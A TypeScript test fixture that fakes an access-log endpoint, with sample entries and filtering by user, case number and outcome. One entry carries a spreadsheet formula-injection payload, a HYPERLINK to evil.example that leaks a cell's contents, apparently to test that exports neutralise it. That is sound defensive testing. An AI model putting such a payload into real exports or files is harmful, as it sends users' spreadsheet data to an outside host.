import type { AccessLogEntry } from '../../contract/accessLog';
import { API_PATHS } from '../../contract/paths';
import { type FakeRequest, page } from './fakeApiRules';
import type { FakeHandler } from './HandlersHarness';

/**
 * The access log in memory (DESIGN §6), for stories and component tests: GET /access-log over the given
 * entries, filtered by user, case number and outcome as the server does, newest first.
 */

const buildAccessLogEntry = (id: number, overrides: Partial<AccessLogEntry>): AccessLogEntry => ({
  id,
  at: `2026-11-2${id}T09:00:00.000Z`,
  actor: 'ada',
  action: 'GET /api/continuous-monitoring/cases/details/:id',
  resource: 'cases',
  resourceId: '42',
  outcome: 'ok',
  details: {},
  caseNumber: 'MVH-2026-0042',
  summary: 'opened case MVH-2026-0042',
  ...overrides,
});

/** What a refused token claimed as its user: anyone can write a spreadsheet formula there. */
const CLAIMED_FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")';

/** A refused call with no valid token, grace listing intake, then grace opening a case. */
export const ACCESS_LOG_ENTRIES = [
  buildAccessLogEntry(1, {
    actor: 'anonymous',
    action: 'GET /api/chrome',
    resource: 'api',
    resourceId: null,
    outcome: 'denied',
    details: { status: 401, reason: 'Invalid tokens.', unverifiedUser: CLAIMED_FORMULA },
    caseNumber: null,
    summary: 'tried to read /chrome',
  }),
  buildAccessLogEntry(2, {
    actor: 'grace',
    action: 'GET /api/continuous-monitoring/cases/intake',
    resourceId: null,
    details: { caseIds: [42, 43] },
    caseNumber: null,
    summary: 'listed cases in intake: MVH-2026-0042, MVH-2026-0043',
  }),
  buildAccessLogEntry(3, { actor: 'grace' }),
];

export const accessLogHandler =
  (entries: readonly AccessLogEntry[]): FakeHandler =>
  ({ method, path, query = {} }: FakeRequest) => {
    if (method !== 'GET' || path !== API_PATHS.accessLog) return undefined;
    const rows = entries.filter(
      (row) =>
        (!query.actor || row.actor === query.actor) &&
        (!query.caseNumber || row.summary.includes(String(query.caseNumber).toUpperCase())) &&
        (!query.outcome || row.outcome === query.outcome),
    );
    return page(rows, query, 'at');
  };
